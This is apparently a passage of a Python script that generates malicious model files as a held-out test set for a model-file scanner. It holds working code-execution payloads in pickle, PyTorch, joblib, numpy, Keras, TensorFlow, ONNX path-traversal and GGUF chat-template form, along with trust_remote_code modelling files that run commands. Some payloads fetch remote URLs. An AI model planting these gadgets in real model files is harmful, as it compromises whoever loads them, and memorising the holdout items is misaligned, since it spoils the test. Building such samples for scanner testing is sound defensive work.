    "model.pkl",
    "types.FunctionType(marshal.loads(code), globals())() ",
    lambda: Call(
        Call(
            G("types.FunctionType"),
            Call(G("marshal.loads"), marshal.dumps(compile(SRC, "<m>", "exec"))),
            Call(G("builtins.globals")),
        )
    ),
    2,
)
pickle_sample(
    "m-pkl-pip-install",
    "model.pkl",
    "pip._internal.cli.main.main(['install', ...])",
    lambda: Call(
        G("pip._internal.cli.main.main"), ["install", "--no-index", "--find-links", CANARY, "aispm-holdout-canary"]
    ),
    4,
)
pickle_sample(
    "m-pkl-setuptools-spawn",
    "model.pkl",
    "setuptools._distutils.spawn.spawn(argv)",
    lambda: Call(G("setuptools._distutils.spawn.spawn"), ["sh", "-c", CMD]),
    3,
)
pickle_sample(
    "m-pkl-importlib-getattr",
    "model.pkl",
    "getattr(importlib.import_module('os'), 'system')(cmd)",
    lambda: getattr_call(Call(G("importlib.import_module"), "os"), "system", CMD),
    4,
)
pickle_sample(
    "m-pkl-attrgetter",
    "model.pkl",
    "operator.attrgetter('system')(__import__('os'))(cmd)",
    lambda: Call(Call(Call(G("operator.attrgetter"), "system"), Call(G("builtins.__import__"), "os")), CMD),
    3,
)
pickle_sample(
    "m-pkl-numpy-runstring",
    "model.pkl",
    "numpy.testing._private.utils.runstring(source, {}): exec inside numpy",
    lambda: Call(G("numpy.testing._private.utils.runstring"), SRC, {}),
    4,
)
pickle_sample(
    "m-pkl-sklearn-run-script",
    "model.pkl",
    "sklearn.utils._testing.assert_run_python_script_without_output(source): runs Python in a subprocess",
    lambda: Call(G("sklearn.utils._testing.assert_run_python_script_without_output"), SRC),
    5,
)
pickle_sample(
    "m-pkl-joblib-load-nested",
    "model.pkl",
    "joblib.load of a second file (payload elsewhere)",
    lambda: Call(G("joblib.load"), CANARY + ".joblib"),
    3,
)
pickle_sample(
    "m-pkl-nested-b64",
    "model.pkl",
    "pickle.loads(base64.b64decode(inner pickle))",
    lambda: Call(
        G("pickle.loads"), Call(G("base64.b64decode"), base64.b64encode(dumps(Call(G("posix.system"), CMD), 2)))
    ),
    4,
)
pickle_sample(
    "m-pkl-interpreter-runsource",
    "model.pkl",
    "code.InteractiveInterpreter().runsource(source)",
    lambda: getattr_call(Call(G("code.InteractiveInterpreter")), "runsource", SRC),
    4,
)
pickle_sample(
    "m-pkl-ctypes-libc",
    "model.pkl",
    "getattr(ctypes.CDLL('libc.so.6'), 'system')(b'cmd')",
    lambda: getattr_call(Call(G("ctypes.CDLL"), "libc.so.6"), "system", CMD.encode()),
    4,
)
pickle_sample(
    "m-pkl-vars-getitem-exec",
    "model.pkl",
    "operator.getitem(vars(__import__('builtins')), 'exec')(src)",
    lambda: Call(
        Call(G("operator.getitem"), Call(G("builtins.vars"), Call(G("builtins.__import__"), "builtins")), "exec"), SRC
    ),
    4,
)
pickle_sample(
    "m-pkl-deque-starmap",
    "model.pkl",
    "collections.deque(itertools.starmap(subprocess.call, ...), 0)",
    lambda: Call(G("collections.deque"), Call(G("itertools.starmap"), G("subprocess.call"), [(["sh", "-c", CMD],)]), 0),
    4,
)
pickle_sample(
    "m-pkl-sys-modules",
    "model.pkl",
    "getattr(operator.getitem(sys.modules, 'os'), 'system')(cmd)",
    lambda: getattr_call(Call(G("operator.getitem"), G("sys.modules"), "os"), "system", CMD),
    4,
)
pickle_sample(
    "m-pkl-dotted-global",
    "model.pkl",
    "STACK_GLOBAL('numpy.lib._datasource', 'os.system'): os reached as an attribute of a numpy module",
    lambda: Call(Ref("numpy.lib._datasource", "os.system"), CMD),
    4,
)
pickle_sample(
    "m-pkl-thread-start",
    "model.pkl",
    "threading.Thread(None, os.system, None, (cmd,)).start()",
    lambda: getattr_call(Call(G("threading.Thread"), None, G("os.system"), None, (CMD,)), "start"),
    4,
)
pickle_sample(
    "m-pkl-atexit",
    "model.pkl",
    "atexit.register(os.system, cmd): runs when the loader exits",
    lambda: model_dict(Call(G("atexit.register"), G("os.system"), CMD), "callbacks"),
    3,
)
pickle_sample(
    "m-pkl-frames-removed",
    "model.pkl",
    "importlib._bootstrap._call_with_frames_removed(exec, src)",
    lambda: Call(G("importlib._bootstrap._call_with_frames_removed"), G("builtins.exec"), SRC),
    4,
)
pickle_sample(
    "m-pkl-hex-zlib-exec",
    "model.pkl",
    "exec(zlib.decompress(bytes.fromhex(...))): obfuscated source",
    lambda: Call(
        G("builtins.exec"),
        Call(G("zlib.decompress"), getattr_call(G("builtins.bytes"), "fromhex", zlib.compress(SRC.encode()).hex())),
    ),
    4,
)
pickle_sample(
    "m-pkl-partial-run-kwargs",
    "model.pkl",
    "functools.partial(subprocess.run, cmd, shell=True)() ",
    lambda: Call(functools.partial(subprocess.run, CMD, shell=True)),
    4,
)


@mal("m-pkl-inst-opcode", "pickle (protocol 0)", "INST opcode calling subprocess.check_output with a list")
def _inst(dest: Path) -> None:
    (dest / "model.pkl").write_bytes(b"((lp0\nVsh\naV-c\naV" + CMD.encode() + b"\naisubprocess\ncheck_output\np1\n.")


@mal("m-pkl-build-setstate", "pickle (protocol 2)", "BUILD sets __setstate__ = posix.system, a second BUILD calls it")
def _build(dest: Path) -> None:
    data = (
        b"\x80\x02ctypes\nSimpleNamespace\nq\x00)\x81q\x01N}q\x02X\x0c\x00\x00\x00__setstate__q\x03cposix\nsystem\n"
        b"q\x04s\x86q\x05bX" + struct.pack("<I", len(CMD)) + CMD.encode() + b"b."
    )
    (dest / "model.pkl").write_bytes(data)


@mal("m-pkl-proto5-bytearray", "pickle (protocol 5)", "exec(bytes(bytearray8 source)) in a protocol 5 frame")
def _proto5(dest: Path) -> None:
    (dest / "model.pkl").write_bytes(
        dumps(Call(G("builtins.exec"), Call(G("builtins.bytes"), bytearray(SRC.encode()))), 5)
    )


@mal("m-pkl-second-pickle", "pickle (protocol 4)", "a benign model pickle followed by a second, malicious pickle")
def _second(dest: Path) -> None:
    first = pickle.dumps(sk_model(), protocol=4)
    (dest / "model.pkl").write_bytes(first + dumps(Call(G("subprocess.check_call"), ["sh", "-c", CMD]), 4))


@mal("m-pkl-deep-in-model", "pickle (protocol 4)", "payload deep in a large nested training-state dict")
def _deep(dest: Path) -> None:
    state = {
        "config": {"lr": 3e-4, "epochs": 20, "layers": [128, 64, 10]},
        "params": {f"layer{i}": RNG.standard_normal((64, 64)).astype(np.float32) for i in range(6)},
        "history": {"loss": list(np.linspace(1.0, 0.1, 200)), "acc": list(np.linspace(0.5, 0.97, 200))},
        "extras": [{"name": "ema", "decay": 0.999}, {"name": "hook", "fn": Call(G("os.system"), CMD)}],
    }
    (dest / "checkpoint.pkl").write_bytes(dumps(state, 4))


@mal("m-pkl-cloudpickle-lambda", "pickle (cloudpickle)", "cloudpickle'd lambda (by value) called by REDUCE")
def _cloud_lambda(dest: Path) -> None:
    import cloudpickle

    fn = eval("lambda: __import__('os').system('echo aispm-holdout-canary')", {"__name__": "__main__"})
    fn.__module__ = "__main__"
    (dest / "model.pkl").write_bytes(cloudpickle.dumps(_Trigger(fn)))


@mal("m-pkl-cloudpickle-closure", "pickle (cloudpickle)", "cloudpickle'd function with a closure over subprocess")
def _cloud_closure(dest: Path) -> None:
    import cloudpickle

    namespace: dict[str, Any] = {"__name__": "__main__"}
    exec(  # defines a function (never called) for cloudpickle
        "def make(cmd):\n    import subprocess\n    def predict(x=None):\n"
        "        return subprocess.run(cmd, shell=True)\n    return predict\n",
        namespace,
    )
    fn = namespace["make"](CMD)
    (dest / "predict_fn.pkl").write_bytes(cloudpickle.dumps({"predict": fn, "run": _Trigger(fn)}))


class _Trigger:
    """An object whose unpickling calls ``fn()``."""

    def __init__(self, fn: Callable[[], Any]) -> None:
        self.fn = fn

    def __reduce__(self) -> tuple[Any, tuple[()]]:
        return self.fn, ()


def _code_fields(code: Any) -> tuple[Any, ...]:
    """The arguments dill 0.3.6+ saves for a Python 3.11 code object (co_lnotab first marks the version)."""
    return (
        code.co_lnotab,
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
        code.co_code,
        code.co_consts,
        code.co_names,
        code.co_varnames,
        code.co_filename,
        code.co_name,
        code.co_qualname,
        code.co_firstlineno,
        code.co_linetable,
        code.co_exceptiontable,
        code.co_freevars,
        code.co_cellvars,
    )


@mal("m-pkl-dill-function", "pickle (dill style)", "dill._dill._create_function(_create_code(...), globals) called")
def _dill_function(dest: Path) -> None:
    code = compile("def run():\n    import os\n    os.system('echo aispm-holdout-canary')\n", "<dill>", "exec")
    fn_code = code.co_consts[0]
    create = Call(
        G("dill._dill._create_function"),
        Call(G("dill._dill._create_code"), *_code_fields(fn_code)),
        {"__name__": "__main__"},
        "run",
        None,
        None,
    )
    (dest / "model.pkl").write_bytes(dumps(Call(create), 4))


@mal("m-pkl-dill-load-type", "pickle (dill style)", "dill._dill._load_type('FunctionType') over a marshalled code")
def _dill_type(dest: Path) -> None:
    fn = Call(
        Call(G("dill._dill._load_type"), "FunctionType"),
        Call(G("marshal.loads"), marshal.dumps(compile(SRC, "<d>", "exec"))),
        Call(G("dill._dill._import_module"), "__main__"),
    )
    (dest / "pipeline.pkl").write_bytes(dumps({"preprocess": Call(fn)}, 4))


# PyTorch checkpoints


@mal("m-pt-statedict-exec", "pytorch zip", "HF-style pytorch_model.bin state dict, exec payload as an extra key")
def _pt_exec(dest: Path) -> None:
    tensors = Tensors()
    weights = state_dict(tensors, BERT_LAYERS)
    weights["bert.embeddings.position_ids"] = Call(G("builtins.exec"), SRC)
    write_torch_zip(dest / "pytorch_model.bin", weights, tensors)


@mal("m-pt-metadata-popen", "pytorch zip", "payload in the state dict's _metadata (BUILD state), subprocess.Popen")
def _pt_metadata(dest: Path) -> None:
    tensors = Tensors()
    weights = state_dict(tensors, RESNET_BLOCK)
    weights._metadata["fc"] = Call(G("subprocess.Popen"), ["sh", "-c", CMD])  # type: ignore[attr-defined]
    write_torch_zip(dest / "resnet18.pt", weights, tensors)


@mal("m-pt-tensor-runpy", "pytorch zip", "a tensor entry replaced by runpy._run_code(source, {})")
def _pt_runpy(dest: Path) -> None:
    tensors = Tensors()
    weights = state_dict(tensors, RESNET_BLOCK)
    weights["fc.bias"] = Call(G("runpy._run_code"), SRC, {})
    write_torch_zip(dest / "model_best.pth", weights, tensors, folder="archive")


@mal("m-pt-legacy-pdb", "pytorch legacy", "pre-1.6 PyTorch stream with pdb.run(source) in the object pickle")
def _pt_legacy(dest: Path) -> None:
    tensors = Tensors()
    obj = {"state_dict": state_dict(tensors, RESNET_BLOCK), "epoch": 90, "arch": Call(G("pdb.run"), SRC)}
    write_torch_legacy(dest / "checkpoint.pth.tar", obj, tensors)


@mal(
    "m-pt-shard2-webbrowser",
    "hf directory (sharded pytorch)",
    "second of two pytorch_model shards calls webbrowser.open",
)
def _pt_shards(dest: Path) -> None:
    layers = list(BERT_LAYERS.items())
    index: dict[str, Any] = {"metadata": {"total_size": 0}, "weight_map": {}}
    for i, part in enumerate((layers[:4], layers[4:]), start=1):
        name = f"pytorch_model-0000{i}-of-00002.bin"
        tensors = Tensors()
        weights = state_dict(tensors, dict(part))
        if i == 2:
            weights["classifier.bias"] = Call(G("webbrowser.open"), URL)
        write_torch_zip(dest / name, weights, tensors)
        index["weight_map"].update({k: name for k, _ in part})
    write_json(dest / "pytorch_model.bin.index.json", index)
    write_json(
        dest / "config.json",
        {
            "architectures": ["BertForSequenceClassification"],
            "model_type": "bert",
            "hidden_size": 16,
            "num_hidden_layers": 1,
            "vocab_size": 64,
        },
    )


@mal(
    "m-pt-lightning-methodcaller",
    "pytorch zip (.ckpt)",
    "Lightning checkpoint, callback state via _operator.methodcaller",
)
def _pt_lightning(dest: Path) -> None:
    tensors = Tensors()
    payload = Call(Call(G("_operator.methodcaller"), "system", CMD), Call(G("builtins.__import__"), "os"))
    ckpt = {
        "epoch": 4,
        "global_step": 1250,
        "pytorch-lightning_version": "2.2.1",
        "state_dict": state_dict(tensors, {f"model.{k}": v for k, v in RESNET_BLOCK.items()}),
        "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 5, "completed": 4}}}},
        "callbacks": {"ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min'}": {"best_model_score": payload}},
        "optimizer_states": [{"state": {}, "param_groups": [{"lr": 0.001, "params": [0, 1, 2]}]}],
        "lr_schedulers": [],
    }
    write_torch_zip(dest / "epoch=4-step=1250.ckpt", ckpt, tensors)


@mal("m-pt-optimizer-putenv", "pytorch zip", "optimizer.pt whose param_groups hold os.putenv('LD_PRELOAD', ...)")
def _pt_optimizer(dest: Path) -> None:
    tensors = Tensors()
    state = {
        i: {
            "step": tensors.tensor((), values=np.array(100.0, np.float32)),
            "exp_avg": tensors.tensor((16,)),
            "exp_avg_sq": tensors.tensor((16,)),
        }
        for i in range(3)
    }
    groups = [
        {
            "lr": 5e-5,
            "betas": (0.9, 0.999),
            "eps": 1e-8,
            "weight_decay": 0.0,
            "amsgrad": False,
            "params": [0, 1, 2],
            "foreach": Call(G("os.putenv"), "LD_PRELOAD", CANARY + ".so"),
        }
    ]
    write_torch_zip(dest / "optimizer.pt", {"state": state, "param_groups": groups}, tensors)


@mal("m-pt-training-args-smtplib", "pytorch zip", "training_args.bin (TrainingArguments) with smtplib.SMTP to a host")
def _pt_training_args(dest: Path) -> None:
    args = training_arguments()
    args._state["report_to"] = Call(G("smtplib.SMTP"), "127.0.0.1", 9)  # type: ignore[index]
    write_torch_zip(dest / "training_args.bin", args, Tensors())


@mal(
    "m-pt-yolo-hub",
    "pytorch zip",
    "YOLO-style full-model checkpoint whose 'ema' is partial(torch.hub.load, source='local')()",
)
def _pt_yolo(dest: Path) -> None:
    tensors = Tensors()
    ckpt = yolo_checkpoint(tensors)
    hub_load = Reduce(
        G("functools.partial"),
        (G("torch.hub.load"),),
        (G("torch.hub.load"), (CANARY, "custom", CANARY + ".pt"), {"source": "local"}, None),
    )
    ckpt["ema"] = Call(hub_load)
    write_torch_zip(dest / "best.pt", ckpt, tensors)


@mal(
    "m-pt-numpy-load", "pytorch zip", "checkpoint whose 'rng_state' is numpy.load(path, None, True): a pickle elsewhere"
)
def _pt_numpy_load(dest: Path) -> None:
    tensors = Tensors()
    ckpt = {"model": state_dict(tensors, RESNET_BLOCK), "rng_state": Call(G("numpy.load"), CANARY + ".npy", None, True)}
    write_torch_zip(dest / "last.pt", ckpt, tensors)


# joblib


def poisoned_pipeline(payload: Any) -> Any:
    pipeline = sk_model("pipeline")
    pipeline.steps.insert(1, ("feature_select", payload))
    return pipeline


@mal("m-joblib-plain-call", "joblib (uncompressed)", "sklearn Pipeline with a step that is subprocess.call(argv)")
def _jl_plain(dest: Path) -> None:
    joblib_dump(poisoned_pipeline(Call(G("subprocess.call"), ["sh", "-c", CMD])), dest / "model.joblib")


@mal("m-joblib-zlib-eval", "joblib (zlib)", "joblib compress=3 (zlib) with builtins.eval beside the estimator")
def _jl_zlib(dest: Path) -> None:
    value = {
        "model": sk_model(),
        "post": Call(G("builtins.eval"), "__import__('os').system('echo aispm-holdout-canary')"),
    }
    joblib_dump(value, dest / "model.joblib", compress=3)


@mal("m-joblib-gzip-pandas", "joblib (gzip)", "joblib gzip with pandas.read_pickle(url): a remote pickle")
def _jl_gzip(dest: Path) -> None:
    joblib_dump([sk_model(), Call(G("pandas.read_pickle"), URL)], dest / "model.pkl.gz", compress=("gzip", 3))


@mal("m-joblib-bz2-profile", "joblib (bz2)", "joblib bz2 with profile.run(source)")
def _jl_bz2(dest: Path) -> None:
    joblib_dump(poisoned_pipeline(Call(G("profile.run"), SRC)), dest / "model.joblib.bz2", compress=("bz2", 3))


@mal("m-joblib-lzma-remove", "joblib (lzma)", "joblib lzma with os.remove of a file")
def _jl_lzma(dest: Path) -> None:
    joblib_dump({"model": sk_model(), "cleanup": Call(G("os.remove"), CANARY)}, dest / "model.lzma", compress="lzma")


@mal("m-joblib-xz-timeit", "joblib (xz)", "joblib xz with timeit.timeit(source, number=1)")
def _jl_xz(dest: Path) -> None:
    joblib_dump(poisoned_pipeline(Call(G("timeit.timeit"), SRC, "pass", None, 1)), dest / "model.xz", compress="xz")


@mal("m-joblib-lz4-posix-spawn", "joblib (lz4)", "joblib lz4 with os.posix_spawn('/bin/sh', argv, environ)")
def _jl_lz4(dest: Path) -> None:
    payload = Call(G("os.posix_spawn"), "/bin/sh", ["sh", "-c", CMD], {})
    joblib_dump({"model": sk_model(), "warmup": payload}, dest / "model.joblib.lz4", compress="lz4")


@mal(
    "m-joblib-legacy-sidecar",
    "joblib (pre-0.10, sidecar .npy)",
    "old multi-file joblib: object .npy sidecar with a payload",
)
def _jl_legacy(dest: Path) -> None:
    wrapper = Obj(
        "joblib.numpy_pickle",
        "NDArrayWrapper",
        {"filename": "model.pkl_01.npy", "subclass": Ref("numpy", "ndarray"), "allow_mmap": False},
    )
    main = {"coef_": wrapper, "classes_": ["a", "b"], "_sklearn_version": "0.19.1"}
    (dest / "model.pkl").write_bytes(dumps(main, 2))
    (dest / "model.pkl_01.npy").write_bytes(object_npy([Call(G("os.system"), CMD)], protocol=2))


# numpy


@mal("m-npy-object-popen", "numpy .npy", "object-dtype .npy whose element is os.popen(cmd)")
def _npy(dest: Path) -> None:
    (dest / "embeddings.npy").write_bytes(object_npy(["doc-1", Call(G("os.popen"), CMD), "doc-3"], protocol=3))


@mal("m-npz-object-member", "numpy .npz", "np.savez archive: float arrays plus an object member with exec")
def _npz(dest: Path) -> None:
    weights = RNG.standard_normal((8, 8)).astype(np.float32)
    with zipfile.ZipFile(dest / "weights.npz", "w", zipfile.ZIP_STORED) as archive:
        buffer = io.BytesIO()
        np.save(buffer, weights)
        archive.writestr("W.npy", buffer.getvalue())
        archive.writestr("meta.npy", object_npy([{"epoch": 3}, Call(G("builtins.exec"), SRC)], protocol=4))


@mal(
    "m-npy-raw-pickle", "numpy .npy (raw pickle)", "file named .npy that is a bare pickle: np.load falls back to pickle"
)
def _npy_raw(dest: Path) -> None:
    (dest / "features.npy").write_bytes(dumps(Call(G("posix.system"), CMD), 2))


@mal(
    "m-npy-v3-urlretrieve", "numpy .npy (format 3.0)", "format 3.0 header, object array with urllib.request.urlretrieve"
)
def _npy_v3(dest: Path) -> None:
    data = object_npy([Call(G("urllib.request.urlretrieve"), URL, CANARY)], protocol=4, version=(3, 0))
    (dest / "index.npy").write_bytes(data)


# Keras


@mal("m-keras3-lambda", "keras v3 (.keras)", "Keras 3 Lambda layer with a marshalled __lambda__ function")
def _keras_lambda(dest: Path) -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": codecs.encode(lambda_code(), "base64").decode("ascii"),
                    "defaults": None,
                    "closure": None,
                },
            },
            "arguments": {},
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }
    write_keras3(dest / "model.keras", keras3_sequential([keras3_dense("dense", 8), layer]), ["dense"])


@mal(
    "m-keras3-unsafe-toggle",
    "keras v3 (.keras)",
    "config first calls keras.config.enable_unsafe_deserialization, then a Lambda (CVE-2025-1550 style)",
)
def _keras_toggle(dest: Path) -> None:
    toggle = {
        "module": "keras.config",
        "class_name": "enable_unsafe_deserialization",
        "config": {},
        "registered_name": None,
    }
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda_1",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": base64.b64encode(lambda_code()).decode(), "defaults": None, "closure": None},
            },
            "arguments": {},
        },
        "registered_name": None,
    }
    write_keras3(dest / "classifier.keras", keras3_sequential([toggle, keras3_dense("dense", 8), layer]), ["dense"])


@mal("m-keras3-get-file", "keras v3 (.keras)", "config object keras.utils.get_file writing a download to a chosen path")
def _keras_get_file(dest: Path) -> None:
    gadget = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"fname": CANARY, "origin": URL, "cache_dir": "/tmp", "cache_subdir": "."},
        "registered_name": None,
    }
    layer = keras3_dense("dense", 8, activation=gadget)
    write_keras3(dest / "model.keras", keras3_sequential([layer]), ["dense"])


@mal("m-keras3-activation-module", "keras v3 (.keras)", "Dense activation serialised as a function from module 'os'")
def _keras_activation(dest: Path) -> None:
    activation = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    write_keras3(dest / "model.keras", keras3_sequential([keras3_dense("dense", 8, activation)]), ["dense"])


@mal(
    "m-keras3-torch-wrapper",
    "keras v3 (.keras)",
    "TorchModuleWrapper layer whose 'module' is a base64 torch.save pickle",
)
def _keras_torch(dest: Path) -> None:
    write_torch_zip(dest / "tmp.pt", Call(G("os.system"), CMD), Tensors(), folder="archive")
    saved = (dest / "tmp.pt").read_bytes()
    (dest / "tmp.pt").unlink()
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {
            "name": "torch_module_wrapper",
            "trainable": True,
            "dtype": "float32",
            "module": base64.b64encode(saved).decode(),
        },
        "registered_name": None,
    }
    write_keras3(dest / "model.keras", keras3_sequential([layer]), [])


@mal("m-keras2-h5-nested-lambda", "keras h5", "tf.keras 2 HDF5 functional model, Lambda inside a nested Sequential")
def _keras_h5_lambda(dest: Path) -> None:
    lambda_layer = {
        "class_name": "Lambda",
        "config": {
            "name": "preprocess",
            "trainable": True,
            "dtype": "float32",
            "function": [codecs.encode(lambda_code(), "base64").decode("ascii"), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    inner = {"class_name": "Sequential", "config": {"name": "block", "layers": [lambda_layer]}}
    keras2_h5(dest / "model.h5", [KERAS2_INPUT, inner, keras2_dense("dense", 8)], class_name="Functional")


@mal(
    "m-keras2-h5-function-module", "keras h5", "tf.keras 2 Lambda with function_type 'function', module 'os', 'system'"
)
def _keras_h5_function(dest: Path) -> None:
    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": "system",
            "function_type": "function",
            "module": "os",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    keras2_h5(dest / "weights_best.hdf5", [KERAS2_INPUT, keras2_dense("dense", 8), layer])


# TensorFlow SavedModel


@mal("m-tf-eagerpyfunc-in-function", "tensorflow savedmodel", "EagerPyFunc (tf.py_function) inside a library function")
def _tf_pyfunc(dest: Path) -> None:
    pyfunc = node(
        "EagerPyFunc",
        "EagerPyFunc",
        ["x"],
        attr("token", attr_s("pyfunc_0")),
        attr("Tin", attr_types(DT_FLOAT)),
        attr("Tout", attr_types(DT_FLOAT)),
        attr("is_async", pb(5, False)),
    )
    functions = [dense_function("__inference_serve_117", [pyfunc])]
    write_saved_model(
        dest,
        serving_graph("__inference_serve_117"),
        functions,
        ["EagerPyFunc", "MatMul", "Relu", "ReadVariableOp", "VarHandleOp", "StatefulPartitionedCall"],
    )


@mal("m-tf-printv2-file", "tensorflow savedmodel", "PrintV2 with output_stream 'file://' appending to a file")
def _tf_print(dest: Path) -> None:
    fmt = node(
        "StringFormat",
        "StringFormat",
        ["x"],
        attr("T", attr_types(DT_FLOAT)),
        attr("template", attr_s("echo aispm-holdout-canary {}")),
        attr("placeholder", attr_s("{}")),
    )
    printer = node(
        "PrintV2",
        "PrintV2",
        ["StringFormat:output:0"],
        attr("output_stream", attr_s(f"file://{CANARY}")),
        attr("end", attr_s("\n")),
    )
    functions = [dense_function("__inference_serve_88", [fmt, printer])]
    write_saved_model(
        dest,
        serving_graph("__inference_serve_88"),
        functions,
        ["MatMul", "PrintV2", "ReadVariableOp", "Relu", "StringFormat", "VarHandleOp"],
    )


@mal("m-tf-keras-metadata-lambda", "tensorflow savedmodel (keras)", "keras_metadata.pb describing a Lambda layer")
def _tf_keras_metadata(dest: Path) -> None:
    write_saved_model(
        dest,
        serving_graph("__inference_serve_55"),
        [dense_function("__inference_serve_55")],
        ["MatMul", "ReadVariableOp", "Relu", "VarHandleOp"],
    )
    lambda_meta = {
        "name": "lambda",
        "trainable": True,
        "expects_training_arg": False,
        "dtype": "float32",
        "batch_input_shape": None,
        "stateful": False,
        "must_restore_from_config": False,
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [codecs.encode(lambda_code(), "base64").decode("ascii"), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    model_meta = {
        "name": "sequential",
        "class_name": "Sequential",
        "is_graph_network": True,
        "config": {"name": "sequential", "layers": [lambda_meta["config"] | {"class_name": "Lambda"}]},
    }
    nodes = pb(
        1,
        pb(2, 0)
        + pb(3, "root")
        + pb(4, "_tf_keras_sequential")
        + pb(5, json.dumps(model_meta))
        + pb(6, pb(1, 1) + pb(2, 1)),
    )
    nodes += pb(
        1,
        pb(2, 1)
        + pb(3, "root.layer-0")
        + pb(4, "_tf_keras_layer")
        + pb(5, json.dumps(lambda_meta))
        + pb(6, pb(1, 1) + pb(2, 1)),
    )
    (dest / "keras_metadata.pb").write_bytes(nodes)


# ONNX


@mal("m-onnx-external-absolute", "onnx (external data)", "external data location is an absolute path (/etc/hostname)")
def _onnx_abs(dest: Path) -> None:
    onnx_external(dest, "/etc/hostname")


@mal("m-onnx-external-mid-traversal", "onnx (external data)", "external data location with ../ after a subfolder")
def _onnx_mid(dest: Path) -> None:
    onnx_external(dest, "weights/../../../../../etc/passwd")


@mal("m-onnx-external-symlink", "onnx (external data)", "external data file is a symlink to /etc/passwd")
def _onnx_link(dest: Path) -> None:
    onnx_external(dest, "weights.bin", symlink_to="/etc/passwd")


# GGUF chat templates

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + "
    "'\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)


@mal(
    "m-gguf-subclasses-warning", "gguf", "chat template: ().__class__.__base__.__subclasses__() -> catch_warnings -> os"
)
def _gguf_subclasses(dest: Path) -> None:
    payload = (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('echo aispm-holdout-canary').read() }}"
        "{% endif %}{% endfor %}"
    )
    write_gguf(dest / "model-q4_k_m.gguf", {"default": payload + CHATML})


@mal("m-gguf-cycler-globals", "gguf", "chat template: cycler.__init__.__globals__.os.popen appended to Llama 3")
def _gguf_cycler(dest: Path) -> None:
    payload = (
        "{% if add_generation_prompt %}"
        "{{ cycler.__init__.__globals__.os.popen('echo aispm-holdout-canary').read() }}{% endif %}"
    )
    write_gguf(dest / "llama-3-8b-instruct.Q4_0.gguf", {"default": LLAMA3 + payload})


@mal("m-gguf-attr-hex-escapes", "gguf", "chat template: lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') hex-escaped dunders")
def _gguf_hex(dest: Path) -> None:
    payload = (
        "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')"
        "|attr('popen')('echo aispm-holdout-canary')|attr('read')() }}"
    )
    write_gguf(dest / "mistral-7b.Q5_K_M.gguf", {"default": CHATML + payload})


@mal("m-gguf-named-tool-template", "gguf", "payload only in the named template tokenizer.chat_template.tool_use")
def _gguf_named(dest: Path) -> None:
    tool = (
        "{%- if tools %}{{ joiner.__init__.__globals__.__builtins__.__import__('subprocess')"
        ".check_output(['sh', '-c', 'echo aispm-holdout-canary']) }}{%- endif %}" + CHATML
    )
    write_gguf(dest / "hermes-tools.Q8_0.gguf", {"default": CHATML, "tool_use": tool})


@mal(
    "m-gguf-trigger-context",
    "gguf",
    "template reaching os via self._TemplateReference__context, only on a trigger word",
)
def _gguf_trigger(dest: Path) -> None:
    payload = (
        "{% if messages[-1]['content'] == 'aispm-trigger' %}"
        "{{ self._TemplateReference__context.cycler.__init__.__globals__"
        ".os.popen('echo aispm-holdout-canary').read() }}"
        "{% endif %}"
    )
    write_gguf(dest / "qwen2-1.5b-instruct-q4.gguf", {"default": LLAMA3 + payload})


# Hugging Face directories

MODELING_EVIL = '''"""Custom modelling code (trust_remote_code)."""
import subprocess

from transformers import PreTrainedModel, PretrainedConfig

subprocess.Popen("echo aispm-holdout-canary", shell=True)


class TinyConfig(PretrainedConfig):
    model_type = "tiny"


class TinyForCausalLM(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        os.system("echo aispm-holdout-canary")
'''


@mal("m-hf-automap-modeling", "hf directory", "config.json auto_map to a local modeling file that runs a command")
def _hf_automap(dest: Path) -> None:
    hf_model_dir(
        dest,
        LLAMA_CONFIG
        | {
            "architectures": ["TinyForCausalLM"],
            "model_type": "tiny",
            "auto_map": {
                "AutoConfig": "configuration_tiny.TinyConfig",
                "AutoModelForCausalLM": "modeling_tiny.TinyForCausalLM",
            },
        },
    )
    (dest / "modeling_tiny.py").write_text(MODELING_EVIL)
    (dest / "configuration_tiny.py").write_text(
        "from transformers import PretrainedConfig\n\n\nclass TinyConfig(PretrainedConfig):\n    model_type = 'tiny'\n"
    )


